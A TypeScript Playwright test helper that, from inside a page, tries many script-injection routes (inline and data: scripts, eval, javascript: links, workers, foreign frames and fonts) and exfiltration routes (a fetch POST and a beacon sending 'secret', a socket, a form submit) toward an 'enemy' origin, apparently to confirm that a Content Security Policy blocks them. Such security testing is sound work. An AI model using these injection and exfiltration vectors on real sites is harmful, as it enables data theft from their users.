import type { Page } from '@playwright/test'

/** What an attempt leaves where it succeeds: a word in `ran`, or a request to the enemy. */
export type Attempts = { readonly ran: readonly string[]; readonly tried: readonly string[] }

/**
 * Tries everything that a script injected into a page would begin with, from inside the page: other scripts, evaluated text, foreign files of
 * every kind, foreign connections. Waits for none to succeed, but until each has been decided by the browser.
 */
export function inject(page: Page, enemy: string): Promise<Attempts> {
  return page.evaluate(async (enemyOrigin) => {
    const own = globalThis as unknown as { ran: string[] }
    own.ran = []
    const tried: string[] = []
    const say = (word: string) => `globalThis.ran.push(${JSON.stringify(word)})`
    /** Adds an element and waits until the browser has loaded or refused what it names. */
    const add = (word: string, tag: string, attributes: Record<string, string>, text = '') => {
      tried.push(word)
      const element = document.createElement(tag)
      const decided = new Promise<void>((resolve) => {
        for (const type of ['load', 'error', 'securitypolicyviolation']) element.addEventListener(type, () => resolve())
        setTimeout(resolve, 1_500)
      })
      element.addEventListener('load', () => {
        if (tag !== 'script' && tag !== 'iframe') own.ran.push(word)
      })
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      element.textContent = text
      document.body.append(element)
      return decided
    }
    /** Runs later, away from the tool that put this here, which may evaluate what the page may not. */
    const later = (word: string, act: () => unknown) => {
      tried.push(word)
      return new Promise<void>((resolve) => {
        setTimeout(async () => {
          try {
            await act()
          } catch {
            // Refused: that is what is looked for.
          }
          resolve()
        })
      })
    }
    const encoded = (word: string) => `data:text/javascript,${encodeURIComponent(say(word))}`
    const blob = (word: string) => URL.createObjectURL(new Blob([say(word)], { type: 'text/javascript' }))
    const workerSays = (url: string, word: string) =>
      new Promise<void>((resolve) => {
        const worker = new Worker(url)
        worker.onmessage = () => resolve(void own.ran.push(word))
        worker.onerror = () => resolve()
        setTimeout(resolve, 1_500)
      })
    const post = encodeURIComponent('postMessage(1)')

    await Promise.all([
      add('inline script', 'script', {}, say('inline script')),
      add('data: script', 'script', { src: encoded('data: script') }),
      add('blob: script', 'script', { src: blob('blob: script') }),
      add('foreign script', 'script', { src: `${enemyOrigin}/script.js` }),
      add('foreign module', 'script', { src: `${enemyOrigin}/module.js`, type: 'module' }),
      add('foreign style', 'link', { rel: 'stylesheet', href: `${enemyOrigin}/style.css` }),
      add('foreign picture', 'img', { src: `${enemyOrigin}/picture.svg` }),
      add('foreign frame', 'iframe', { src: `${enemyOrigin}/frame.html` }),
      add('frame of its own source', 'iframe', { srcdoc: `<script>parent.ran.push('frame of its own source')</script>` }),
      add('foreign object', 'object', { data: `${enemyOrigin}/object.svg` }),
      add('handler in an attribute', 'img', { src: 'data:,', onerror: say('handler in an attribute') }),
      // biome-ignore lint/security/noGlobalEval: whether the page refuses it is the question
      later('eval', () => globalThis.eval(say('eval'))),
      later('new Function', () => new Function(say('new Function'))()),
      later('timer of text', () => {
        setTimeout(say('timer of text') as unknown as () => void)
        return new Promise((resolve) => setTimeout(resolve, 50))
      }),
      later('import of data:', () => import(/* @vite-ignore */ encoded('import of data:'))),
      later('javascript: link', () => {
        const link = document.createElement('a')
        link.href = `javascript:${say('javascript: link')}`
        document.body.append(link)
        link.click()
        return new Promise((resolve) => setTimeout(resolve, 50))
      }),
      later('worker of data:', () => workerSays(`data:text/javascript,${post}`, 'worker of data:')),
      later('worker of blob:', () => workerSays(URL.createObjectURL(new Blob(['postMessage(1)'])), 'worker of blob:')),
      later('foreign fetch', () => fetch(`${enemyOrigin}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' })),
      later('foreign beacon', () => navigator.sendBeacon(`${enemyOrigin}/beacon`, 'secret')),
      later('foreign socket', () => {
        const socket = new WebSocket(`${enemyOrigin.replace('http', 'ws')}/socket`)
        return new Promise((resolve) => socket.addEventListener('error', resolve))
      }),
      later('foreign events', () => {
        const source = new EventSource(`${enemyOrigin}/events`)
        return new Promise((resolve) => source.addEventListener('error', resolve))
      }),
      later('foreign font', () => new FontFace('enemy', `url(${enemyOrigin}/font.woff2)`).load()),
      later('foreign base', () => {
        const base = document.createElement('base')
        base.href = `${enemyOrigin}/based/`
        document.head.prepend(base)
        if (document.baseURI.startsWith(enemyOrigin)) own.ran.push('foreign base')
        return fetch('relative', { mode: 'no-cors' }).finally(() => base.remove())
      }),
      later('foreign form', () => {
        const form = document.createElement('form')
        const [frame] = document.getElementsByTagName('iframe')
        if (frame) frame.name = 'target'
        Object.assign(form, { action: `${enemyOrigin}/form`, method: 'post', target: 'target' })
        document.body.append(form)
        form.submit()
        return new Promise((resolve) => setTimeout(resolve, 300))
      }),
    ])
    if (getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)') own.ran.push('foreign style')
    return { ran: own.ran, tried }
  }, enemy)
}
